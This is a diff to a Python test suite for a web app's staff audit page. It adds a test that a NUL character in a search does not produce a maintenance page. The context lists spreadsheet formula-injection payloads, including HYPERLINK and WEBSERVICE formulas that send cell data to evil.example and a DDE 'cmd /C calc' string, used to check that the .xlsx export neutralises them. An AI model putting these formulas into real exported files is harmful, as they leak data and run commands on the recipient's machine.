@@ -79,6 +79,13 @@ def test_audit_search_treats_percent_and_underscore_literally(app, tmp_path):
         assert "message:1" not in page, wildcard
 
 
+def test_audit_search_for_a_control_character_is_an_empty_search_not_maintenance(app):
+    """PostgreSQL refuses a NUL in a parameter; the page must not answer "under maintenance" for one."""
+    add_staff(app, "office", StaffRole.OFFICE, None)
+    page = sign_in_staff(app, "office").get("/staff/audit", query_string={"q": "message\x00"})
+    assert page.status_code == 200 and 'value="message"' in page.get_data(as_text=True)
+
+
 # --- 2. nothing from outside becomes a formula in the .xlsx export ---------------------------------
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&K2,"点击查看")', "=cmd|' /C calc'!A0", '=WEBSERVICE("http://evil.example")',
             "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]
